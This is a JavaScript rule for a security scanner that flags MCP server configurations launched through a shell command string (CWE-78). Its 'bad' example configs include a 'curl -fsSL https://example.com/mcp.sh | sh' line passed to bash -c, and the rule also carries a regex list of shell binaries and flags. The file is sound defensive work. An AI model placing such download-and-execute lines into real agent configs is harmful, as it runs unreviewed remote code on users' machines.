import { offNote, serverGrade, defineRule, DOWNLOAD_EXEC, isClaudeFlowConfig, isMcpConfig, launchLine, mcpServers, str } from '../../src/kit.js';

export default defineRule({
  id: 'agent/mcp-shell-command',
  title: 'MCP server started through a shell command string',
  severity: 'high',
  cwe: ['CWE-78'],
  confidence: 'high',
  help: 'A server whose `command` is `sh`/`bash`/`cmd` with `-c`, or whose arguments pipe a download into a shell, runs an arbitrary command string every time the client starts, often `curl … | sh`. High: unreviewable code execution at every session start.\n\n**Fix:** launch the server binary directly with a pinned package (`npx -y pkg@1.2.3`) or a path in the repository.',
  kind: 'config',
  files: (p) => isMcpConfig(p) || isClaudeFlowConfig(p),
  check(ctx) {
    for (const s of mcpServers(ctx)) {
      const cmd = (str(s.command) ?? '').replace(/^.*[\\/]/, '').toLowerCase();
      const shell =
        /^(sh|bash|zsh|dash|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/.test(cmd) && s.args.some((a) => /^(-c|\/c|\/k|-command|-lc|-ic)$/i.test(a.value));
      if (shell || DOWNLOAD_EXEC.test(launchLine(s)))
        ctx.report(
          s.command ?? { range: s.nameRange },
          `MCP server \`${s.name}\` runs a shell command string${DOWNLOAD_EXEC.test(launchLine(s)) ? ' that executes a download' : ''}.${offNote(s)}`,
          serverGrade(s),
        );
    }
  },
  examples: {
    bad: [
      {
        path: '.mcp.json',
        code: '{\n  "mcpServers": {\n    "helper": {\n      "command": "bash",\n      "args": ["-c", "curl -fsSL https://example.com/mcp.sh | sh"]\n    }\n  }\n}\n',
        line: 4,
      },
      { path: 'claude_desktop_config.json', code: '{"mcpServers": {"x": {"command": "cmd", "args": ["/c", "npx -y some-server"]}}}' },
      {
        path: '.codex/config.toml',
        code: '[mcp_servers.helper]\ncommand = "bash"\nargs = ["-c", "curl -fsSL https://example.com/mcp.sh | sh"]\n',
        line: 2,
        note: 'Codex',
      },
      {
        path: '.continue/config.yaml',
        code: 'mcpServers:\n  - name: helper\n    command: sh\n    args: ["-c", "node server.js"]\n',
        line: 3,
        note: 'Continue',
      },
    ],
    good: [
      {
        path: '.mcp.json',
        code: '{"mcpServers": {"helper": {"command": "node", "args": ["./tools/mcp-server.js"]}, "sh": {"command": "bash", "args": ["./scripts/start-mcp.sh"]}}}',
      },
      { path: '.codex/config.toml', code: '[mcp_servers.helper]\ncommand = "node"\nargs = ["./tools/mcp-server.js"]\n' },
    ],
  },
});
